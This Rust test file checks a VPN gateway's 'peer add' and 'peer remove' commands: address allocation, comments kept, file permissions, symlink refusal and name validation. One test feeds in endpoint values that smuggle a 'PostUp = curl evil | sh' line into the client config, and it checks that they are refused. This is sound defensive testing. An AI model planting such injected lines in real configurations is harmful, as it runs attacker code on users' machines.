//! `peer add` and `peer remove` on real files: layout, modes, refusals.

use super::atomic_write::write_atomically;
use super::*;
use std::path::{Path, PathBuf};

fn setup(tag: &str, peers_dir: bool) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("promgate-onboard-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("peers.d")).unwrap();
    std::fs::write(dir.join("private.key"), PrivateKey::generate().to_base64()).unwrap();
    let extra = if peers_dir {
        "peers_dir = \"peers.d\"\n"
    } else {
        ""
    };
    let text = format!(
        "# operator's comment stays\n[gateway]\nprivate_key_file = \"private.key\"\naddress = \"10.13.13.1/24\"\nendpoint = \"vpn.example.com:51820\"\n{extra}\n[[peer]]\nname = \"alice\" # alice's laptop\npublic_key = \"{}\"\nallowed_ips = [\"10.13.13.2/32\"]\n",
        encode_key(PrivateKey::generate().public_key().as_bytes())
    );
    std::fs::write(dir.join("promgate.toml"), text).unwrap();
    dir.join("promgate.toml")
}

fn req(name: &str) -> AddPeer {
    AddPeer {
        name: name.into(),
        public_key: None,
        ip: None,
        endpoint: None,
        role: Role::Viewer,
    }
}

#[test]
fn add_to_main_config_keeps_comments_and_allocates_next_address() {
    let path = setup("main", false);
    let added = add_peer(&path, &req("bob")).unwrap();
    assert!(
        added.client_config.contains("Address = 10.13.13.3/32"),
        "{}",
        added.client_config
    );
    assert!(added.client_config.contains("AllowedIPs = 10.13.13.1/32"));
    assert!(
        added
            .client_config
            .contains("Endpoint = vpn.example.com:51820")
    );
    assert!(added.client_config.contains("PersistentKeepalive = 25"));
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains("# operator's comment stays") && text.contains("# alice's laptop"));
    let cfg = config::load(&path).unwrap();
    assert_eq!(cfg.peers.len(), 2);

    // Removing keeps alice's comment too.
    remove_peer(&path, "bob").unwrap();
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(
        text.contains("# alice's laptop") && !text.contains("\"bob\""),
        "{text}"
    );
}

#[test]
fn add_to_peers_dir_with_public_key_never_holds_a_private_key() {
    let path = setup("dir", true);
    let client = PrivateKey::generate();
    let mut r = req("carol");
    r.public_key = Some(encode_key(client.public_key().as_bytes()));
    r.ip = Some("10.13.13.77".parse().unwrap());
    let added = add_peer(&path, &r).unwrap();
    assert_eq!(
        added.written,
        path.parent().unwrap().join("peers.d/carol.toml")
    );
    assert!(added.client_config.contains(PRIVATE_KEY_PLACEHOLDER));
    assert!(added.client_config.contains("Address = 10.13.13.77/32"));
    assert!(!added.client_config.contains(&client.to_base64()));
    assert_eq!(config::load(&path).unwrap().peers.len(), 2);
    remove_peer(&path, "carol").unwrap();
    assert!(!path.parent().unwrap().join("peers.d/carol.toml").exists());
}

#[test]
fn refusals_name_the_problem() {
    let path = setup("refuse", true);
    let e = add_peer(&path, &req("alice")).err().unwrap().to_string();
    assert!(e.contains("already exists"), "{e}");
    let mut r = req("dave");
    r.ip = Some("10.13.13.2".parse().unwrap());
    let e = add_peer(&path, &r).err().unwrap().to_string();
    assert!(e.contains("overlaps"), "{e}");
    let e = remove_peer(&path, "nobody").err().unwrap().to_string();
    assert!(e.contains("no peer named"), "{e}");
}

fn mode_of(p: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::metadata(p).unwrap().permissions().mode() & 0o7777
}

fn set_mode(p: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
}

#[test]
fn add_and_remove_keep_the_config_s_mode() {
    let path = setup("mode", false);
    set_mode(&path, 0o600);
    add_peer(&path, &req("bob")).unwrap();
    assert_eq!(mode_of(&path), 0o600, "peer add widened a 0600 config");
    remove_peer(&path, "bob").unwrap();
    assert_eq!(mode_of(&path), 0o600, "peer remove widened a 0600 config");
    set_mode(&path, 0o640);
    add_peer(&path, &req("carol")).unwrap();
    assert_eq!(mode_of(&path), 0o640);
    // No temp file is left behind.
    let dir = path.parent().unwrap();
    let leftovers: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().contains(".tmp-"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn new_files_that_hold_a_secret_are_owner_only() {
    let dir = std::env::temp_dir().join(format!("promgate-secret-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let f = dir.join("p.toml");
    write_atomically(&f, "[[peer]]\npreshared_key = \"x\"\n").unwrap();
    assert_eq!(mode_of(&f), 0o600);
    let g = dir.join("q.toml");
    write_atomically(&g, "[[peer]]\nname = \"q\"\n").unwrap();
    assert_eq!(mode_of(&g), 0o644);
    // The QR code holds the client's private key.
    let png = dir.join("qr.png");
    qr_png("[Interface]\nPrivateKey = abc\n", &png).unwrap();
    assert_eq!(mode_of(&png), 0o600);
    // A symlink planted at the PNG path is not followed.
    let target = dir.join("elsewhere");
    std::fs::write(&target, "keep").unwrap();
    let link = dir.join("link.png");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    assert!(qr_png("x", &link).is_err());
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "keep");
}

#[test]
fn endpoints_that_could_inject_config_lines_are_refused() {
    let path = setup("endpoint", true);
    for bad in [
        "vpn.example.com:51820\nPostUp = curl evil | sh",
        "vpn.example.com:51820\r",
        "vpn example.com:51820",
        "vpn.example.com",
        "vpn.example.com:0",
        "fd00::1:51820",
    ] {
        let mut r = req("eve");
        r.endpoint = Some(bad.into());
        let e = add_peer(&path, &r).err().map(|e| e.to_string());
        assert!(
            e.as_deref().is_some_and(|e| e.contains("--endpoint")),
            "{bad:?}: {e:?}"
        );
    }
    for good in [
        "vpn.example.com:51820",
        "203.0.113.7:443",
        "[fd00::1]:51820",
    ] {
        assert_eq!(config::check_endpoint(good), Ok(()), "{good}");
    }
    // The same check guards the config file.
    let text = std::fs::read_to_string(&path).unwrap().replace(
        "vpn.example.com:51820",
        "vpn.example.com:51820\\nPostUp = id",
    );
    let e = config::parse(&path, &text).err().unwrap().to_string();
    assert!(e.contains("gateway.endpoint"), "{e}");
    // And the renderer refuses it whatever called it.
    let host: IpNet = "10.13.13.9/32".parse().unwrap();
    assert!(client_config("k", host, "g", "a:1\nPostUp = id", &[host]).is_err());
}

/// Found by the config_files fuzz target: `.bob` went to
/// peers.d/.bob.toml, a hidden file the gateway never loads.
#[test]
fn a_name_that_would_make_a_hidden_peers_file_is_refused() {
    for peers_dir in [true, false] {
        let path = setup(&format!("hidden-{peers_dir}"), peers_dir);
        let before = std::fs::read(&path).unwrap();
        let err = add_peer(&path, &req(".bob")).err().expect("refused");
        assert!(err.to_string().contains("not starting with '.'"), "{err}");
        assert_eq!(std::fs::read(&path).unwrap(), before);
        let dir = path.parent().unwrap().join("peers.d");
        assert_eq!(std::fs::read_dir(dir).unwrap().count(), 0);
    }
}
